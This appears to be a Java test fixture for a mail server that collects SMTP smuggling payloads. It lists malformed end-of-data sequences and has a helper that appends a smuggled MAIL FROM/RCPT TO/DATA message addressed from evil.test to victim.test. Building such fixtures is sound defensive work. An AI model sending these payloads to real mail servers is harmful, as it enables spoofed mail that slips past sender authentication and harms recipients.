package dev.relaypolicy.server.protocol.wire;

import java.util.List;

/** Sequences that some servers accept as the end of a message, each followed by a smuggled message. */
public final class SmugglingPayloads {

    /** Sequences that do not end a message but make it invalid. */
    public static final List<String> BARE = List.of(
            "\n.\n",
            "\n.\r\n",
            "\r\n.\n",
            "\r.\r",
            "\r.\r\n",
            "\r\n.\r",
            "\n\n.\r\n",
            "\r\n\0.\r\n",
            "\r\n.\0\r\n",
            "\r\n\0.\r",
            "\r\n\0.\n",
            "\n.\r",
            "\r.\n",
            "\r\n.\r\r\n",
            "\r\r\n.\n",
            "\0\r\n.\n");

    public static final String STUFFED_DOT = "\r\n..\r\n";

    static final String FIRST = "Subject: first\r\n\r\nfirst";
    static final String SECOND = "MAIL FROM:<s@evil.test>\r\nRCPT TO:<v@victim.test>\r\nDATA\r\nsecond";
    static final String END = "\r\n.\r\n";
    static final String AFTER = "QUIT\r\n";

    private SmugglingPayloads() {}

    /** Returns the input of an attacker after the reply 354. */
    static String attack(String payload) {
        return FIRST + payload + SECOND + END + AFTER;
    }
}
